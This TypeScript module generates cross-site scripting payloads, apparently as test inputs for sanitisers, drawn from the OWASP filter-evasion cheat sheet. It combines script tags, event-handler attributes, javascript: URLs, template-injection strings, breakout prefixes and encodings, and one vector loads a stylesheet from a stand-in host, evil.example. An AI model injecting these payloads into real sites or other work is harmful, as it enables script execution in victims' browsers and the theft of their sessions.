/** What a payload runs where it runs at all; pages that are looked at count it. */
const RUNS = ['xss()', 'alert(1)', 'xss`1`', 'top.xss()', "window['xss']()", 'eval("xss()")'] as const
/** What would lead out of the place that a text stands in. */
const BREAKS = ['', '">', "'>", '</title>', '</script>', '</style>', '-->', '</textarea>', ']]>', '`>', '\\">', '&quot;>'] as const

type Make = (run: string) => string
/** Markup that runs something, in the ways browsers know. Source: cheatsheetseries.owasp.org, XSS filter evasion (2026-11-27); written anew. */
const MARKUP: readonly Make[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<img src=x onerror=${run}>`,
  (run) => `<svg onload=${run}>`,
  (run) => `<body onload=${run}>`,
  (run) => `<details open ontoggle=${run}>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<a href="javascript:${run}">x</a>`,
  (run) => `<iframe src="javascript:${run}">`,
  (run) => `<iframe srcdoc="<script>${run}</script>">`,
  (run) => `<object data="javascript:${run}">`,
  (run) => `<form action="javascript:${run}"><button>x`,
  (run) => `<math href="javascript:${run}">x`,
  (run) => `<svg><script>${run}</script>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x>`,
  (run) => `<video><source onerror=${run}>`,
  (run) => `<ScRiPt>${run}</sCrIpT>`,
  (run) => `<img/src=x/onerror=${run}>`,
  (run) => `<x onpointerenter=${run} style="position:fixed;inset:0">`,
  (run) => `<style>@import "javascript:${run}"</style>`,
  (run) => `<base href="javascript:${run}//">`,
  (run) => `<meta http-equiv=refresh content="0;javascript:${run}">`,
  (run) => `<link rel=stylesheet href="//evil.example/x">${run}`,
  (run) => `javascript:${run}`,
  (run) => ` autofocus onfocus=${run} x=`,
  (run) => `[x](javascript:${run})`,
  (run) => `![x](x"onerror="${run})`,
  (run) => `{{constructor.constructor('${run}')()}}`,
  (run) => `\${${run}}`,
]

/** How a payload is spelled. */
const SPELLINGS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '\\u003c'),
  (text) => encodeURIComponent(text),
  (text) => text.replaceAll('<', '\uFF1C').replaceAll('>', '\uFF1E'),
]

/** The first `count` payloads: markup by turns, then what they run, what they break out of, and how they are spelled. */
export function payloads(count: number): readonly string[] {
  return Array.from({ length: count }, (_, index) => {
    const at = <Item>(list: readonly Item[], step: number): Item => list[Math.floor(index / step) % list.length] as Item
    const markup = at(MARKUP, 1)
    const text = at(BREAKS, MARKUP.length) + markup(at(RUNS, MARKUP.length * 3))
    return at(SPELLINGS, MARKUP.length * BREAKS.length)(text)
  })
}
